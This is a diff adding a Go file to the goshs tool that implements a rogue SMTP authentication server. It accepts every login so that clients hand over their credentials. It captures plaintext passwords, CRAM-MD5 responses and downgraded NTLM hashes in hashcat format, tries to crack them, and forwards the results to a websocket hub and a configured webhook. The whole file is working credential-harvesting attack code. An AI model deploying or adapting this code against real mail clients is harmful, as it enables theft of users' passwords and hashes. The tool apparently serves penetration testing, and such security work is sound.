@@ -0,0 +1,234 @@
+package smtpserver
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"time"
+
+	"github.com/emersion/go-sasl"
+	"github.com/emersion/go-smtp"
+	"goshs.de/goshs/v2/logger"
+	"goshs.de/goshs/v2/metrics"
+	"goshs.de/goshs/v2/smbserver"
+	"goshs.de/goshs/v2/webhook"
+	"goshs.de/goshs/v2/ws"
+)
+
+// Mechanisms advertised in the EHLO response. Every attempt is accepted so
+// the client goes on to hand over its mail.
+var authMechanisms = []string{sasl.Plain, sasl.Login, "CRAM-MD5", "NTLM"}
+
+func (s *Session) AuthMechanisms() []string { return authMechanisms }
+
+func (s *Session) Auth(mech string) (sasl.Server, error) {
+	switch mech {
+	case sasl.Plain:
+		return sasl.NewPlainServer(func(_, username, password string) error {
+			return s.AuthPlain(username, password)
+		}), nil
+	case sasl.Login:
+		return &loginServer{session: s}, nil
+	case "CRAM-MD5":
+		return &cramMD5Server{session: s}, nil
+	case "NTLM":
+		return &ntlmServer{session: s}, nil
+	}
+	return nil, smtp.ErrAuthUnknownMechanism
+}
+
+// loginServer implements the obsolete but still widely used LOGIN mechanism.
+type loginServer struct {
+	session  *Session
+	username string
+	step     int
+}
+
+func (l *loginServer) Next(response []byte) ([]byte, bool, error) {
+	switch l.step {
+	case 0:
+		l.step++
+		if response == nil {
+			return []byte("Username:"), false, nil
+		}
+		// Username sent as initial response
+		l.username = string(response)
+		l.step++
+		return []byte("Password:"), false, nil
+	case 1:
+		l.username = string(response)
+		l.step++
+		return []byte("Password:"), false, nil
+	default:
+		l.session.captureCredential(sasl.Login, l.username, string(response), "", "")
+		return nil, true, nil
+	}
+}
+
+// cramMD5Server hands out a challenge and records the HMAC-MD5 response in
+// hashcat format (-m 10200).
+type cramMD5Server struct {
+	session   *Session
+	challenge []byte
+}
+
+func (c *cramMD5Server) Next(response []byte) ([]byte, bool, error) {
+	if c.challenge == nil {
+		nonce := make([]byte, 8)
+		if _, err := rand.Read(nonce); err != nil {
+			return nil, false, err
+		}
+		c.challenge = fmt.Appendf(nil, "<%s.%d@goshs>", hex.EncodeToString(nonce), time.Now().Unix())
+		return c.challenge, false, nil
+	}
+
+	username, digest, ok := bytes.Cut(response, []byte(" "))
+	if !ok || len(digest) != 32 {
+		return nil, false, errors.New("malformed CRAM-MD5 response")
+	}
+	hash := fmt.Sprintf("$cram_md5$%s$%s",
+		base64.StdEncoding.EncodeToString(c.challenge),
+		base64.StdEncoding.EncodeToString(response))
+	c.session.captureCredential("CRAM-MD5", string(username), "", hash, "10200")
+	return nil, true, nil
+}
+
+// ntlmServer runs the NTLM handshake (RFC-less, as spoken by Outlook and
+// friends) and captures the Type 3 response like the SMB server does.
+type ntlmServer struct {
+	session   *Session
+	challenge *smbserver.NTLMChallenge
+}
+
+func (n *ntlmServer) Next(response []byte) ([]byte, bool, error) {
+	if len(response) == 0 && n.challenge == nil {
+		// Ask for the Type 1 message
+		return []byte{}, false, nil
+	}
+
+	msg := smbserver.ExtractNTLM(response)
+	if len(msg) < 12 {
+		return nil, false, errors.New("invalid NTLM message")
+	}
+
+	switch binary.LittleEndian.Uint32(msg[8:12]) {
+	case smbserver.NTLMSSP_NEGOTIATE:
+		challenge, err := smbserver.NewChallenge(n.session.realm)
+		if err != nil {
+			return nil, false, err
+		}
+		challenge.DowngradeLevel = smbserver.DowngradeNTLMv2
+		if len(msg) >= 16 {
+			challenge.ClientFlags = binary.LittleEndian.Uint32(msg[12:16])
+		}
+		n.challenge = challenge
+		return challenge.BuildChallengeMessage(), false, nil
+
+	case smbserver.NTLMSSP_AUTH:
+		if n.challenge == nil {
+			return nil, false, errors.New("NTLM authenticate message without challenge")
+		}
+		captured, err := n.challenge.ParseAuthMessage(msg)
+		if err != nil {
+			return nil, false, err
+		}
+		n.session.captureNTLM(captured)
+		return nil, true, nil
+	}
+	return nil, false, errors.New("unexpected NTLM message")
+}
+
+// remoteAddr returns the client address, if known.
+func (s *Session) remoteAddr() string {
+	if s.conn == nil || s.conn.Conn() == nil {
+		return ""
+	}
+	return s.conn.Conn().RemoteAddr().String()
+}
+
+// isTLS reports whether the session runs over SMTPS or after STARTTLS.
+func (s *Session) isTLS() bool {
+	if s.conn == nil {
+		return false
+	}
+	_, ok := s.conn.TLSConnectionState()
+	return ok
+}
+
+func (s *Session) captureNTLM(captured *smbserver.CapturedHash) {
+	cracked, _ := smbserver.TryCrackDefault(captured)
+	metrics.CountHash("smtp", cracked)
+	user := captured.Username
+	if captured.Domain != "" {
+		user = captured.Domain + "\\" + captured.Username
+	}
+	s.captureCredential("NTLM", user, cracked, captured.HashcatLine, captured.HashcatMode)
+
+	if s.cracker != nil && captured.Username != "" {
+		snap := *captured
+		s.cracker.Submit(&snap, "smtp", s.remoteAddr(), cracked, "", func(pw string) {
+			s.captureCredential("NTLM", user, pw, snap.HashcatLine, snap.HashcatMode)
+		})
+	}
+}
+
+// captureCredential logs a credential pair and sends it to the hub and webhook.
+func (s *Session) captureCredential(mechanism, username, password, hash, hashcatMode string) {
+	event := ws.CredentialEvent{
+		Type:        "credential",
+		Protocol:    "smtp",
+		Mechanism:   mechanism,
+		Username:    username,
+		Password:    password,
+		Hash:        hash,
+		HashcatMode: hashcatMode,
+		TLS:         s.isTLS(),
+		Source:      s.remoteAddr(),
+		Timestamp:   time.Now(),
+	}
+
+	logger.Access{Protocol: "smtp", Client: event.Source, User: username, Event: "credential", Method: "AUTH " + mechanism}.
+		Infof("[smtp] AUTH %s from %s: %s", mechanism, event.Source, username)
+	if password != "" {
+		logger.Infof("[smtp] password: %s", password)
+	}
+	if hash != "" {
+		logger.Infof("[smtp] hashcat (-m %s): %s", hashcatMode, hash)
+	}
+
+	if s.hub != nil {
+		eventBytes, err := json.Marshal(event)
+		if err != nil {
+			logger.Errorf("Error marshalling credential event: %v", err)
+		} else {
+			s.hub.Broadcast <- eventBytes
+		}
+	}
+
+	if s.webhook != nil {
+		msg := fmt.Sprintf("[SMTP] - AUTH %s from %s\nTLS: %t\nUser: %s", mechanism, event.Source, event.TLS, username)
+		if password != "" {
+			msg = fmt.Sprintf("%s\nPassword: %s", msg, password)
+		}
+		if hash != "" {
+			msg = fmt.Sprintf("%s\nHashcat Mode: hashcat -m %s\n\n%s", msg, hashcatMode, hash)
+		}
+		e := webhook.NewEvent("smtp", msg)
+		e.Remote = event.Source
+		e.User = username
+		e.Fields = map[string]string{"mechanism": mechanism}
+		if password != "" {
+			e.Fields["password"] = password
+		}
+		if hash != "" {
+			e.Hashes = []string{hash}
+			e.Fields["hashcat_mode"] = hashcatMode
+		}
+		logger.HandleWebhookEvent(e, *s.webhook)
+	}
+}